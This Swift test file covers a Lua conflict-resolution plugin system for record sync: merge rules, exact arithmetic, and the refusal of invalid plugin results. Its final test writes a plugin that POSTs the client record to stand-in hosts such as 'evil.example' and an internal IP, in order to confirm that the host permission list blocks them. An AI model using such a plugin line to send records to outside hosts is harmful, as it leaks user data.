import SluiceCore
import SluiceTesting
import Testing

@testable import SluiceLua

@Suite("A plugin that decides conflicts")
struct LuaConflictHandlerTests {
    let base: JSON = ["id": "1", "version": "a", "title": "milk", "count": 5, "tags": ["x", "y"], "note": "one\ntwo"]

    func conflict(
        client: JSON?, server: JSON?, base: JSON?? = nil, maybeApplied: Bool = false
    ) -> Conflict {
        let operation = TableOperation(
            id: "op", sequence: 1, table: "todos", recordID: "1", kind: .update,
            createdAt: Timestamp("2026-01-02T00:00:00Z")!)
        return Conflict(
            operation: operation, client: client, server: server, base: base ?? self.base, maybeApplied: maybeApplied,
            status: 412, isDeletedOnServer: server == nil)
    }

    func changed(_ changes: JSON) -> JSON {
        var record = base
        for (name, value) in changes.members ?? [] { record[name] = value }
        return record
    }

    func decide(_ body: String, _ conflict: Conflict) async throws -> ConflictDecision {
        let plugins = try await PluginText(
            ["on_conflict"], "return { on_conflict = function(c, ctx)\n\(body)\nend }"
        ).loaded()
        return try await plugins.conflictHandler.decide(conflict)
    }

    @Test(
        "each decision reaches the engine",
        arguments: [
            ("decide.server()", ConflictDecision.server), ("decide.client()", .client), ("decide.delete()", .delete),
            ("decide.discard()", .discard), ("decide.defer { after = 5 }", .defer),
            ("decide.abort { reason = 'stop' }", .abort),
            ("decide.ask { reason = 'x' }", .ask),
            ("decide.next()", .next), ("c:default_policy()", .next), ("nil", .next),
        ])
    func decisions(text: String, decision: ConflictDecision) async throws {
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer", "version": "b"]))
        #expect(try await decide("return \(text)", conflict) == decision)
    }

    @Test("a merge takes what one side changed, and asks a rule for what both did")
    func merge() async throws {
        let client = changed(["title": "tea", "count": 7, "tags": ["x", "z"]])
        let server = changed(["title": "beer", "count": 6, "tags": ["x", "y", "w"], "version": "b", "extra": true])
        let decision = try await decide(
            "return c:merge { title = 'client', count = 'sum_delta', tags = 'union', default = 'server' }",
            conflict(client: client, server: server))
        var merged = server
        merged["title"] = "tea"
        merged["count"] = 8
        merged["tags"] = ["x", "w", "z"]
        #expect(decision == .replace(merged))
    }

    @Test("a rule may be a function of both values and the base")
    func functions() async throws {
        let decision = try await decide(
            "return c:merge { title = function(mine, theirs, old) return mine .. '+' .. theirs .. '-' .. old end }",
            conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"])))
        guard case .replace(let merged) = decision else { throw SluiceError(.conflict, "no merge: \(decision)") }
        #expect(merged["title"] == "tea+beer-milk")
    }

    @Test("texts are merged line by line, and lists of lines without losing one")
    func lines() async throws {
        let client = changed(["note": "one\ntwo\nthree"])
        let server = changed(["note": "zero\none\ntwo"])
        for (rule, note) in [("text3", "zero\none\ntwo\nthree"), ("concat_lines", "zero\none\ntwo\nthree")] {
            let decision = try await decide(
                "return c:merge { note = '\(rule)' }", conflict(client: client, server: server))
            guard case .replace(let merged) = decision else { throw SluiceError(.conflict, "no merge: \(decision)") }
            #expect(merged["note"]?.string == note)
        }
    }

    @Test("a sum that may have been added already is left to a person")
    func sumIsNotDoubled() async throws {
        let conflict = conflict(
            client: changed(["count": 7]), server: changed(["count": 8]), maybeApplied: true)
        #expect(try await decide("return c:merge { default = 'sum_delta' }", conflict) == .ask)
    }

    @Test(
        "sum_delta adds whole numbers to the last digit, and asks where the sum cannot be exact",
        arguments: [
            ("9007199254740995", "9223372036854775801", "9007199254740993", "9223372036854775803"),
            ("-9223372036854775808", "-1", "-9223372036854775807", "-2"), ("0.75", "2", "0.5", "2.25"),
            ("9223372036854775807", "1", "0", nil), ("-9223372036854775808", "2", "1", nil),
            ("9223372036854775807", "0", "-1", nil), ("-2", "-9223372036854775807", "0", nil),
            ("0.5", "9007199254740993", "0", nil), ("9007199254740993", "-9007199254740000", "0.5", nil),
            ("0.5", "3", "9007199254740992", nil),
        ] as [(String, String, String, String?)])
    func exactSum(client: String, server: String, base: String, sum: String?) async throws {
        func record(_ number: String) throws -> JSON { try JSON(parsing: #"{"id": "1", "n": \#(number)}"#) }
        let conflict = Conflict(
            operation: conflict(client: self.base, server: self.base).operation, client: try record(client),
            server: try record(server), base: try record(base), maybeApplied: false, status: 412,
            isDeletedOnServer: false)
        let expected: ConflictDecision = try sum.map { .replace(try record($0)) } ?? .ask
        #expect(try await decide("return c:merge { n = 'sum_delta' }", conflict) == expected)
    }

    @Test("what has no rule, and what one side deleted, goes to the next handler")
    func next() async throws {
        let both = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"]))
        #expect(try await decide("return c:merge { count = 'max' }", both) == .next)
        #expect(try await decide("return c:merge { default = 'max' }", conflict(client: base, server: nil)) == .next)
    }

    @Test("numbers that Lua cannot hold pass a merge as they are")
    func exactNumbers() async throws {
        let number = JSON(JSON.Number(text: "12345678901234567.89")!)
        let decision = try await decide(
            "return c:merge { default = 'client' }",
            conflict(client: changed(["title": "tea", "count": number]), server: changed(["title": "b", "count": 1])))
        guard case .replace(let merged) = decision else { throw SluiceError(.conflict, "no merge: \(decision)") }
        #expect(merged["count"]?.description == "12345678901234567.89")
    }

    @Test(
        "what always applies is followed where one side alone changed the field too",
        arguments: [
            ("max", 3, 5, 5, 5), ("max", 7, 5, 5, 7), ("max", 5, 2, 5, 5), ("max", 7, 9, 5, 9), ("min", 7, 5, 5, 5),
            ("min", 3, 5, 5, 3), ("server", 7, 5, 5, 5), ("client", 5, 9, 5, 5), ("max", nil, 5, 5, 5),
            ("max", 5, nil, nil, 5), ("max", 4, nil, 4, 4), ("sum_delta", 7, 5, 5, 7), ("sum_delta", 5, 9, 5, 9),
            ("sum_delta", 7, 9, 5, 11), ("max", 6, 6, 5, 6),
        ] as [(String, Int?, Int?, Int?, Int)])
    func always(rule: String, client: Int?, server: Int?, base: Int?, merged: Int) async throws {
        func record(_ count: Int?, _ version: String) -> JSON {
            var record: JSON = ["id": "1", "version": JSON(version), "title": "milk"]
            record["count"] = count.map { JSON($0) }
            return record
        }
        let conflict = conflict(client: record(client, "a"), server: record(server, "b"), base: record(base, "a"))
        let decision = try await decide("return c:merge { always = { count = '\(rule)' } }", conflict)
        guard case .replace(let result) = decision else { throw SluiceError(.conflict, "no merge: \(decision)") }
        #expect(result["count"] == JSON(merged) && result["title"] == "milk" && result["version"] == "b")
    }

    @Test(
        "max and min compare numbers as numbers, however they are written, and ask where they cannot be told apart",
        arguments: [
            ("max", "10.10", "9.50", "10.10"), ("min", "10.10", "9.50", "9.50"), ("max", "9.50", "10", "10"),
            ("max", "\"10\"", "\"9\"", "\"9\""), ("max", "9007199254740993", "9007199254740992", "9007199254740993"),
            ("max", "18446744073709551617", "18446744073709551616", nil), ("max", "1.10", "1.1", "1.1"),
            ("min", "18446744073709551617", "1", "1"), ("max", "10.10", "\"9\"", nil),
        ] as [(String, String, String, String?)])
    func ordered(rule: String, client: String, server: String, result: String?) async throws {
        func record(_ number: String) throws -> JSON { try JSON(parsing: #"{"id": "1", "n": \#(number)}"#) }
        let conflict = conflict(client: try record(client), server: try record(server), base: try record("0"))
        let expected: ConflictDecision = try result.map { .replace(try record($0)) } ?? .ask
        #expect(try await decide("return c:merge { n = '\(rule)' }", conflict) == expected)
    }

    @Test("a function that always applies gets all three values; nil takes the server's, and ask asks")
    func alwaysFunction() async throws {
        let conflict = conflict(client: changed(["title": "tea", "count": 9]), server: changed(["version": "b"]))
        let shout = "function(mine, theirs, old) return mine .. theirs .. old end"
        guard case .replace(let merged) = try await decide("return c:merge { always = { title = \(shout) } }", conflict)
        else { throw SluiceError(.conflict, "no merge") }
        #expect(merged["title"] == "teamilkmilk" && merged["count"] == 9)
        let none = "return c:merge { always = { title = function() return nil end } }"
        guard case .replace(let kept) = try await decide(none, conflict) else {
            throw SluiceError(.conflict, "no merge")
        }
        #expect(kept["title"] == "milk" && kept["count"] == 9)
        #expect(try await decide("return c:merge { always = { title = 'ask' } }", conflict) == .ask)
        #expect(try await decide("return c:merge { always = { note = 'ask' } }", conflict) != .ask)
        // A field may be called so.
        let named = self.conflict(client: changed(["always": 1]), server: changed(["always": 2]))
        guard case .replace(let field) = try await decide("return c:merge { always = 'max' }", named) else {
            throw SluiceError(.conflict, "no merge")
        }
        #expect(field["always"] == 2)
    }

    @Test(
        "of rules that always apply what cannot be is refused with its name",
        arguments: [
            ("always = { count = 'biggest' }", "count has biggest"),
            ("count = 'max', always = { count = 'max' }", "two rules for count"),
            ("always = { count = decide.server }", "the rule for count is decide.server"),
        ])
    func alwaysRefused(rules: String, words: String) async throws {
        let conflict = conflict(client: changed(["count": 7]), server: changed(["version": "b"]))
        let error = await #expect(throws: SluiceError.self) {
            try await decide("return c:merge { \(rules) }", conflict)
        }
        #expect(error?.message.contains(words) == true, "\(error?.message ?? "")")
    }

    @Test("c.server and c.client are copies: what is written to one is in no other, and no rule sees it")
    func copies() async throws {
        let (client, server) = (changed(["title": "tea"]), changed(["title": "beer", "version": "b"]))
        let conflict = conflict(client: client, server: server)
        for side in ["server", "client"] {
            let decision = try await decide(
                """
                local before, written = c.\(side), c.\(side)
                written.title, written.tags = "x", { "only here" }
                if before.title == "x" or c.\(side).title == "x" or #c.\(side).tags ~= 2 then return decide.delete() end
                return c:merge { title = function(mine, theirs) return mine .. theirs end }
                """, conflict)
            guard case .replace(let merged) = decision else { throw SluiceError(.conflict, "no merge: \(decision)") }
            #expect(merged["title"] == "teabeer" && merged["tags"] == base["tags"])
        }
    }

    @Test("a write to a copy that nobody kept is an error, and not lost")
    func lostWrite() async throws {
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer", "version": "b"]))
        let error = await #expect(throws: SluiceError.self) {
            try await decide("c.server.title = 'x'\nreturn decide.merge(c.server)", conflict)
        }
        #expect(error?.message.contains("local record = c.server") == true, "\(error?.message ?? "")")
        // One that was only read beside it is no mistake.
        let decision = try await decide(
            "local mine = c.client mine.title = 'x' return decide.merge(c.server)", conflict)
        #expect(decision == .merge(try #require(conflict.server)))
    }

    @Test("a whole record may be written on one side and returned")
    func wholeRecord() async throws {
        let client = changed(["title": "tea"])
        let server = changed(["title": "beer", "version": "b"])
        let decision = try await decide(
            "local r = c.server\nr.title = c.client.title .. '!'\nreturn decide.merge(r, { reason = 'mine' })",
            conflict(client: client, server: server))
        var merged = server
        merged["title"] = "tea!"
        #expect(decision == .merge(merged))
    }

    @Test(
        "what a merge may not be is refused, and the operation is held",
        arguments: [
            "local r = c.server:to_table() r.id = '2' return decide.merge(r)",
            "local r = c.server:to_table() r.version = 'z' return decide.merge(r)",
            "local r = c.server:to_table() r.deleted = true return decide.merge(r)",
            "local r = c.server r.version = 'z' return decide.merge(r)",
            "local r = c.server r.id = '2' return decide.merge(r)",
            "return decide.merge('text')", "return decide.merge()", "return decide.merge({ title = 'x' })",
            "local r = c.server r.title = 0/0 return decide.merge(r)",
            "local r = c.server r.title = '\\xff' return decide.merge(r)",
            "local r = c.server r.count = 2^60 return decide.merge(r)",
            "return decide.merge({ list = { 1, nil, 3 } })", "return decide.merge({ m = { 1, 2, x = 3 } })",
            "local t = {} t.t = t return decide.merge(t)", "return 'client'", "return decide.push()", "return {}",
            "return { decision = 'explode' }", "return c", "error('no')", "while true do end",
            "return c:merge { title = 'biggest' }", "return decide.merge({ f = print })",
        ])
    func refused(body: String) async throws {
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer", "version": "b"]))
        let error = await #expect(throws: SluiceError.self) { try await decide(body, conflict) }
        #expect(error?.code == .hookFailed && error?.recordID == "1" && error?.cause is PluginFailure)
        #expect(error?.message.contains("probe") == true)
    }

    @Test("the columns of a declared table hold for a merge")
    func schema() async throws {
        let table = TableSchema("todos", columns: [.init("count", .integer), .init("title", .string)])
        let plugins = try await PluginText(
            ["on_conflict"],
            "return { on_conflict = function(c) local r = c.server r.count = 'many' return decide.merge(r) end }"
        ).loaded(PluginOptions(tables: [table]))
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"]))
        let error = await #expect(throws: SluiceError.self) { try await plugins.conflictHandler.decide(conflict) }
        #expect(error?.message.contains("count of todos is integer") == true)
    }

    @Test(
        "the deployment may say what a failure becomes",
        arguments: [
            ("next", ConflictDecision.next), ("server", .server), ("client", .client),
        ])
    func policies(policy: String, decision: ConflictDecision) async throws {
        let plugins = try await PluginText(
            ["on_conflict": ["on_error": JSON(policy)]], "return { on_conflict = function() error('no') end }"
        ).loaded()
        #expect(try await plugins.conflictHandler.decide(conflict(client: base, server: base)) == decision)
    }

    @Test("a record leaves a conflict to hosts that the permission names, and to no other")
    func noSmuggling() async throws {
        let net = ScriptedTransport([], otherwise: .json(200, "{}"))
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"]))
        func decide(_ url: String) async throws -> ConflictDecision {
            try await PluginText(
                ["on_conflict"],
                """
                return { on_conflict = function(c)
                  http.request { method = "POST", url = "\(url)", json = c.client:to_table() }
                  return decide.client()
                end }
                """, extra: ["permissions": ["http": ["api.example.com"]]]
            ).loaded(PluginOptions(transport: net)).conflictHandler.decide(conflict)
        }
        #expect(try await decide("https://api.example.com/x") == .client)
        for url in ["https://evil.example/", "https://api.example.com.evil.example/", "https://10.0.0.1/"] {
            await #expect(throws: SluiceError.self) { try await decide(url) }
        }
        #expect(net.requests.count == 1)
    }
}
